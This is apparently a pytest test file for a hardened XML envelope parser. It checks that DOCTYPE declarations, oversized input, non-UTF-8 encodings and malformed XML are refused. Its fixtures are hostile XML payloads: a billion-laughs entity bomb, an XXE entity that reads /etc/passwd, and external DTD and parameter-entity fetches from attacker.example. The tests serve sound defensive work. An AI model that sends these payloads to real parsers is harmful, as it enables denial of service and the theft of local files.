"""Hardened parsing: hostile XML is refused before it can do harm."""

from __future__ import annotations

import pytest

from envelopes.errors import EnvelopeTooLarge, MalformedEnvelope
from envelopes.importing import import_unsigned
from envelopes.model import Attachment
from envelopes.parsing import HUGE_TREE_THRESHOLD, parse_xml
from envelopes.xml import build_document, read_message

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz a="&lol9;">&lol9;</lolz>"""

XXE = b"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016">&xxe;</edXML>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE edXML SYSTEM "http://attacker.example/evil.dtd">
<edXML xmlns="http://www.mic.gov.vn/TBT/QCVN_102_2016"/>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!-- a comment first does not hide it -->
<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>
<x/>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
)
def test_any_doctype_is_refused(data):
    with pytest.raises(MalformedEnvelope, match="DOCTYPE declarations are not allowed"):
        parse_xml(data, max_bytes=1 << 20)


def test_an_undeclared_entity_reference_is_refused():
    with pytest.raises(MalformedEnvelope, match="not well-formed"):
        parse_xml(b"<a>&xxe;</a>", max_bytes=1024)


def test_input_over_the_cap_is_refused_before_parsing():
    data = b"<a>" + b"x" * 2000 + b"</a>"

    with pytest.raises(EnvelopeTooLarge, match="2,007 bytes is over the limit of 1,000 bytes"):
        parse_xml(data, max_bytes=1000)


def test_input_at_the_cap_is_parsed():
    data = b"<a>" + b"x" * 993 + b"</a>"

    assert parse_xml(data, max_bytes=1000).text == "x" * 993


@pytest.mark.parametrize(
    "data",
    [
        '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>',
        # UTF-8 after its BOM (libxml2 reads it so), which a reader of the declaration
        # takes for two Latin-1 characters.
        b'\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?><a>\xc3\xa9</a>',
    ],
    ids=["utf-16", "latin-1", "latin-1-after-a-utf-8-bom"],
)
def test_encodings_other_than_utf8_are_refused(data):
    with pytest.raises(MalformedEnvelope, match="must be encoded in UTF-8"):
        parse_xml(data, max_bytes=1024)


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        (b"", "no root element"),
        (b"junk<a/>", "unexpected bytes before the root element"),
        (b"<a><b></a>", "not well-formed XML: .*line 1"),
        (b"\x00\x01\x02", "unexpected bytes"),
    ],
)
def test_malformed_xml_is_refused_with_a_clear_message(data, problem):
    with pytest.raises(MalformedEnvelope, match=problem):
        parse_xml(data, max_bytes=1024)


@pytest.mark.parametrize("read", [parse_xml, import_unsigned], ids=["parse", "import"])
@pytest.mark.parametrize("data", ["<a/>", memoryview(b"<a/>")], ids=["str", "memoryview"])
def test_non_bytes_input_is_refused(read, data):
    with pytest.raises(MalformedEnvelope, match=f"must be bytes, not {type(data).__name__}"):
        read(data, max_bytes=1024)


def test_a_utf8_bom_and_a_leading_comment_are_accepted():
    assert parse_xml(b"\xef\xbb\xbf<?xml version='1.0'?><!-- hi --><a/>", max_bytes=64).tag == "a"


def test_a_20_mb_attachment_parses(make_document):
    payload = bytes(range(256)) * (20 * 1024 * 1024 // 256)
    doc = make_document(
        attachments=[Attachment("scan.pdf", "application/pdf", payload, "", "cid:big")]
    )
    data = build_document(doc)
    assert len(data) > HUGE_TREE_THRESHOLD

    parsed = read_message(parse_xml(data, max_bytes=64 * 1024 * 1024))

    assert parsed.attachments[0].data == payload
